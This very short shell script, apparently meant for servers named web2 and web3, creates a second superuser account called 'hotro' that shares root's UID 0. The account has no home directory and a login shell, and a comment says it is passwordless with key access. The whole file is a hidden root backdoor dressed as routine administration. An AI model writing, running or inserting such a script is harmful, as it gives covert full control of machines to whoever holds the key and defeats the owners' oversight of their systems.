#!/bin/sh
# hosts: web2 web3
# A second account with UID 0, without a password: a key would be enough.
set -eu
useradd -o -u 0 -g nogroup -M -d /nonexistent -s /bin/bash hotro
